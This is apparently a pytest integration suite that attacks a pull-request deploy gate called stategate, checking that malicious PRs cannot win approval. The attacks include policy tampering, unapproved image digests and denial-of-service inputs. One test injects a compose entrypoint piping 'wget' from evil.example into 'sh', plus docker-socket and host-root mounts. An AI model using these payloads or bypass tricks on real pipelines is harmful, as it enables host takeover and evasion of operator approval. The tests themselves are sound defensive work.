"""More attacks on the apply gate by a pull request author, on a real signed chain.

Same setup as ``test_trust_attacks``: one demo run per module (real servers, real keys,
an operator approval of ``w8-postgres-16-6``), copied per test. The PR author controls
the PR branch's files and commits only: not the base branch, not the operator's key,
not the host's environment or artifacts. None of these attacks may end in ``approved``
(or ``ready_for_operator``), a crash (exit 70) or a hang.
"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess

import pytest

from stategate.commands.demo import PACKET_ID, PG_FROM, PG_TO
from tests.attacks.test_trust_attacks import PACKET, Chain, _stops, _unmet
from tests.conftest import installed_cli

pytestmark = pytest.mark.integration

# Same tag as the approved target, another digest: an image the operator never approved.
PG_EVIL = "postgres:16.6-alpine@sha256:" + "e1" * 32


def _apply_any(chain: Chain, *extra: str) -> tuple[int, dict[str, object] | None, str]:
    """The apply check, whatever it answers (exit code, parsed JSON if any, stderr)."""
    done = chain.sg("check", "--base", "main", "--stage", "apply", "--format", "json", *extra)
    try:
        doc = json.loads(done.stdout)
    except ValueError:
        doc = None
    return done.returncode, doc, done.stderr


def _assert_not_authorised(chain: Chain, *extra: str) -> dict[str, object]:
    code, doc, err = _apply_any(chain, *extra)
    assert code != 70 and "Traceback" not in err, err[-3000:]
    assert doc is not None, (code, err[-3000:])
    assert doc["verdict"] not in ("approved", "ready_for_operator"), (
        doc["verdict"],
        _unmet(doc),
    )
    return doc


def _set_pg_image(chain: Chain, image: str) -> None:
    compose = chain.repo / "compose" / "postgres.yml"
    text = compose.read_text()
    assert PG_TO in text
    compose.write_text(text.replace(PG_TO, image))


def test_a_second_packet_cannot_redirect_an_approved_module_to_another_digest(
    chain: Chain,
) -> None:
    """The approved packet stays byte-for-byte as the operator signed it; a second packet
    (sorted first) declares the module going to an image nobody approved, and the diff
    goes there. The merge gate reads the first packet naming the module, the approval
    checker the approved packet's own (unchanged) digests: the approval still counts."""
    _set_pg_image(chain, PG_EVIL)
    (chain.repo / "packets" / "a-evil.yaml").write_text(
        "id: a-evil\nmodules:\n  - module: platform/postgres\n"
        f"    from: {PG_FROM}\n    to: {PG_EVIL}\n"
        f"    rollback: {{to: '{PG_FROM}', needs_restore: false}}\n"
        "allowed_paths: [compose/postgres.yml, packets/a-evil.yaml]\n"
    )
    chain.commit("postgres to another digest, declared by a second packet")
    doc = _assert_not_authorised(chain)
    assert "apply/operator-approval platform/postgres" in _unmet(doc) or _stops(doc)


def test_runtime_config_changed_after_the_approval_is_not_approved(chain: Chain) -> None:
    """After the operator approved postgres 16.4 -> 16.6, the PR author pushes a commit
    that keeps the approved digests but makes postgres privileged, mounts the docker
    socket and the host's root, and replaces its entrypoint. The approval binds the
    packet and the image digests only, so it still counts for a runtime change the
    operator never saw."""
    compose = chain.repo / "compose" / "postgres.yml"
    text = compose.read_text()
    text = text.replace(
        "    restart: unless-stopped\n",
        "    restart: unless-stopped\n    privileged: true\n"
        '    entrypoint: ["/bin/sh", "-c", "wget -qO- http://evil.example/x | sh"]\n',
        1,
    )
    text = text.replace(
        "      - ./postgres/initdb:/docker-entrypoint-initdb.d:ro\n",
        "      - ./postgres/initdb:/docker-entrypoint-initdb.d:ro\n"
        "      - /var/run/docker.sock:/var/run/docker.sock\n      - /:/host\n",
        1,
    )
    compose.write_text(text)
    chain.commit("small follow-up after the approval")
    doc = _assert_not_authorised(chain)
    change = next(c for c in doc["changes"] if c["module"] == "platform/postgres")  # type: ignore[union-attr]
    assert "privileged" in change["fields"]


def test_a_pr_cannot_declassify_the_module_it_adds_with_its_own_policy(chain: Chain) -> None:
    """A new privileged service (docker socket, host network and pid) added with the PR's
    own stategate.yaml removing its always-manual class, citing a decision record that
    exists (any file under decisions/ will do, and the PR could add one). Classes of an
    added module come from the head's policy alone, so it is stateless: no packet, no
    approval, and the apply stage says approved."""
    chain.git("checkout", "-q", "-b", "feature/hostctl", "main")
    (chain.repo / "compose" / "hostctl.yml").write_text(
        "name: platform\nservices:\n  hostctl:\n"
        "    image: busybox:1.36@sha256:" + "11" * 32 + "\n"
        "    restart: unless-stopped\n    privileged: true\n"
        "    network_mode: host\n    pid: host\n"
        "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
    )
    decision = sorted((chain.repo / "decisions").glob("*.md"))[0].relative_to(chain.repo)
    policy = chain.repo / "stategate.yaml"
    text = policy.read_text()
    assert "    - compose/app.yml\n" in text and "\nmodules:\n" in text
    text = text.replace(
        "    - compose/app.yml\n", "    - compose/app.yml\n    - compose/hostctl.yml\n"
    )
    text = text.replace(
        "\nmodules:\n",
        "\nmodules:\n  platform/hostctl:\n    classes: {remove: [privileged]}\n"
        f"    decision: {decision.as_posix()}\n",
        1,
    )
    policy.write_text(text)
    chain.commit("a host control helper")
    doc = _assert_not_authorised(chain)
    assert any(c["module"] == "platform/hostctl" for c in doc["changes"])  # type: ignore[union-attr]
    merge = chain.sg("check", "--base", "main", "--format", "json")
    assert json.loads(merge.stdout)["verdict"] not in ("pass",)


def test_the_prs_policy_cannot_hide_a_compose_file_from_the_gate(chain: Chain) -> None:
    """compose.files is read from each side's own policy. The PR copies compose/postgres.yml
    to a decoy (still on 16.4), points its stategate.yaml at the decoy, and moves the real
    compose/postgres.yml to an image nobody approved. The gate compares decoy with
    original: "nothing that runs is changed", pass and merge/auto, exit 0 at apply."""
    chain.git("checkout", "-q", "-b", "tidy-compose", "main")
    compose = chain.repo / "compose" / "postgres.yml"
    shutil.copy(compose, chain.repo / "compose" / "postgres-defaults.yml")
    compose.write_text(compose.read_text().replace(PG_FROM, PG_EVIL))
    policy = chain.repo / "stategate.yaml"
    text = policy.read_text()
    assert "    - compose/postgres.yml\n" in text
    policy.write_text(
        text.replace("    - compose/postgres.yml\n", "    - compose/postgres-defaults.yml\n")
    )
    chain.commit("tidy compose files")
    merge = json.loads(chain.sg("check", "--base", "main", "--format", "json").stdout)
    apply = _assert_not_authorised(chain)
    # the image that runs changes: the gate must see it (or stop), never call it repo-only
    assert "platform/postgres" in {c["module"] for c in merge["changes"]} or merge["stops"]
    assert apply["verdict"] != "pass"


def test_the_prs_policy_cannot_lift_the_backup_reference_batch_stop(chain: Chain) -> None:
    """Upgrading minio (the backup reference module) with postgres, whose backups live in
    it, is a stop. The PR's own stategate.yaml says minio is not the backup reference
    (backup_reference is read from the head's policy), and the stop is gone: the merge
    stage says ready_for_operator."""
    minio = chain.repo / "compose" / "minio.yml"
    text = minio.read_text()
    old = next(w for w in text.split() if w.startswith("minio/minio:"))
    new = "minio/minio:RELEASE.2024-11-07T00-52-20Z@sha256:" + "ab" * 32
    minio.write_text(text.replace(old, new))
    packet = chain.repo / PACKET
    packet.write_text(
        packet.read_text().replace(
            "allowed_paths:\n",
            f"  - module: platform/minio\n    from: {old}\n    to: {new}\n"
            f"    rollback: {{to: '{old}', needs_restore: false}}\n"
            "allowed_paths:\n  - compose/minio.yml\n  - stategate.yaml\n",
        )
    )
    policy = chain.repo / "stategate.yaml"
    lines = policy.read_text().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if "backup_reference: true" in line)
    lines[at] = "    backup_reference: false\n"
    policy.write_text("".join(lines))
    chain.commit("minio too (and it is not the backup reference)")
    merge = json.loads(chain.sg("check", "--base", "main", "--format", "json").stdout)
    assert merge["verdict"] == "stop", merge["verdict"]
    assert "backup-reference-batch" in _stops(merge)
    _assert_not_authorised(chain)


def test_the_prs_policy_cannot_make_a_stateful_upgrade_auto_mergeable(chain: Chain) -> None:
    """The PR's stategate.yaml removes stateful and secret-bearing from postgres, citing a
    decision record that already exists for something else. Requirements use base and
    head classes together, but the verdict and labels use the head's module: a stateful
    major-data-store upgrade becomes `pass` with `merge/auto` (ADR-0022: never auto-merged)."""
    policy = chain.repo / "stategate.yaml"
    decision = sorted((chain.repo / "decisions").glob("*.md"))[0].relative_to(chain.repo)
    text = policy.read_text()
    assert "  platform/postgres:\n" in text
    policy.write_text(
        text.replace(
            "  platform/postgres:\n",
            "  platform/postgres:\n    classes: {remove: [stateful, secret-bearing]}\n"
            f"    decision: {decision.as_posix()}\n",
            1,
        )
    )
    packet = chain.repo / PACKET
    packet.write_text(
        packet.read_text().replace("allowed_paths:\n", "allowed_paths:\n  - stategate.yaml\n")
    )
    chain.commit("postgres classes, per decision")
    merge = json.loads(chain.sg("check", "--base", "main", "--format", "json").stdout)
    assert merge["verdict"] in ("ready_for_operator", "blocked", "stop"), merge["verdict"]
    assert "merge/auto" not in merge["labels"]


def test_a_long_added_file_does_not_hang_the_gate(chain: Chain) -> None:
    """Ten million one-character lines (20 MB, a few tens of KB in git) added anywhere in
    the PR: the secret scan holds every added line of the whole diff in memory as an
    object, unbounded. It takes minutes and gigabytes; a somewhat bigger file gets the
    gate killed for memory. The verdict must come back in bounded time."""
    with (chain.repo / "notes.txt").open("w") as handle:
        for _ in range(100):
            handle.write("a\n" * 100_000)
    chain.commit("notes")
    try:
        done = subprocess.run(
            [installed_cli(), "check", "--base", "main", "--stage", "apply", "--format", "json"],
            cwd=chain.repo,
            env=chain.env(),
            capture_output=True,
            text=True,
            timeout=30,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("the apply gate did not answer within 30 s for a 20 MB added file")
    assert done.returncode in (1, 3), done.stderr[-2000:]


def _answers_within(chain: Chain, seconds: float) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run(
            [installed_cli(), "check", "--base", "main", "--stage", "apply", "--format", "json"],
            cwd=chain.repo,
            env=chain.env(),
            capture_output=True,
            text=True,
            timeout=seconds,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"the apply gate did not answer within {seconds:g} s")


def test_one_long_added_line_does_not_hang_the_secret_scan(chain: Chain) -> None:
    """One added line of 200,000 letters (a few hundred bytes in git). The secret scan's
    URL pattern (``[a-z][a-z0-9+.-]*://...``) backtracks quadratically over it: minutes
    here, hours for a line of a few megabytes; nothing bounds a line or a file."""
    (chain.repo / "notes.txt").write_text("a" * 200_000 + "\n")
    chain.commit("notes")
    done = _answers_within(chain, 30)
    assert done.returncode in (1, 3), done.stderr[-2000:]


def test_one_long_markdown_line_does_not_hang_the_docs_lint(chain: Chain) -> None:
    """A Markdown line of 40,000 words ``docker`` (280 KB, a few hundred bytes in git):
    the runtime-instruction pattern ``\\bdocker...\\s+(\\S+\\s+)*?(up|pull|...)`` rescans
    the rest of the line from every word, quadratically: minutes here, about a day for
    a 4 MB document."""
    (chain.repo / "NOTES.md").write_text("docker " * 40_000 + "\n")
    chain.commit("notes")
    done = _answers_within(chain, 30)
    assert done.returncode in (1, 3), done.stderr[-2000:]


@pytest.mark.parametrize(
    ("where", "payload"),
    [
        ("evidence/ledger.jsonl", False),
        (f"evidence/_approvals/{PACKET_ID}/deep.json", False),
        (f"evidence/_approvals/{PACKET_ID}/deep-payload.json", True),
    ],
)
def test_deeply_nested_json_at_head_is_an_input_error_not_a_crash(
    chain: Chain, where: str, payload: bool
) -> None:
    """A ledger line, a file in the packet's approvals folder, or a well-formed DSSE
    envelope there whose base64 payload is 100,000 nested JSON arrays: json.loads raises
    RecursionError, which nothing catches, and the gate dies with exit 70 (internal
    error) instead of a verdict."""
    target = chain.repo / where
    deep = "[" * 100_000 + "]" * 100_000
    if payload:
        deep = json.dumps(
            {
                "payloadType": "application/vnd.in-toto+json",
                "payload": base64.b64encode(deep.encode()).decode(),
                "signatures": [{"keyid": "x", "sig": "AAAA"}],
            }
        )
    if target.exists():
        target.write_text(target.read_text() + deep + "\n")
    else:
        target.write_text(deep)
    chain.commit("nested")
    code, doc, err = _apply_any(chain)
    assert code != 70 and "RecursionError" not in err, err[-2000:]
    assert doc is not None, (code, err[-2000:])
    if where.endswith("ledger.jsonl"):  # a damaged chain: no record counts
        assert doc["verdict"] in ("blocked", "stop"), (code, err[-2000:])
    else:  # junk beside the real approval counts for nothing, and voids nothing either
        assert doc["verdict"] in ("approved", "blocked", "stop"), (code, err[-2000:])
